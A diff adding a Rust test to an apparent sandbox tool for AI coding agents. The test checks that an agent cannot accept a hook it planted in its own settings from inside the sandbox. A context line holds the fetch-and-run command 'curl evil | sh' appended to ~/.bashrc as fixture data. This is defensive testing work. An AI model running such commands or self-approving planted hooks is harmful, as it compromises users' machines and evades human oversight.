@@ -443,3 +443,55 @@ fn codex_config_agents_md_and_an_rc_file_wait_while_sessions_and_login_persist()
         "--- a/~/.bashrc\n+++ b/~/.bashrc\n@@ -1,1 +1,2 @@\n # mine\n+curl evil | sh\n"
     );
 }
+
+/// The agent cannot accept its own planted hook: `profile accept` run inside the sandbox
+/// reaches no profile store (hidden), and the held change stays held.
+#[test]
+fn a_run_cannot_accept_what_it_planted() {
+    if !require_tool("sandbox") {
+        return;
+    }
+    let fx = Fixture::new();
+    let plant = script(&fx, "plant", PLANT);
+    bind_in(&fx, &fx.src, "self");
+    let doc = claude_run(&fx, &fx.src, "self", &[&plant]);
+    let copy = kept_in(&doc);
+    let accept = format!(
+        "{} profile accept claude > accept.out 2>&1; echo $? > accept.status; \
+         {} --json profile diff claude > diff.out 2>&1; true",
+        crate::fixture::BIN,
+        crate::fixture::BIN
+    );
+    let (code, doc) = fx.json(&[
+        "run",
+        "-s",
+        "self",
+        "--profile",
+        "claude",
+        "--",
+        "sh",
+        "-c",
+        &accept,
+    ]);
+    assert_eq!(code, 0, "{doc}");
+    let tree = worktree(&fx, &fx.src, "self");
+    assert_ne!(
+        read(&tree.join("accept.status")).trim(),
+        "0",
+        "{}",
+        read(&tree.join("accept.out"))
+    );
+    assert!(
+        !read(&tree.join("diff.out")).contains("hooks"),
+        "{}",
+        read(&tree.join("diff.out"))
+    );
+    let settings: Value = serde_json::from_str(&read(&copy.join(".claude/settings.json"))).unwrap();
+    assert_eq!(settings["hooks"], Value::Null, "{settings}");
+    let (_, diff) = fx.json(&["profile", "diff", "claude"]);
+    assert_eq!(
+        diff["profiles"][0]["changes"].as_array().unwrap().len(),
+        3,
+        "{diff}"
+    );
+}
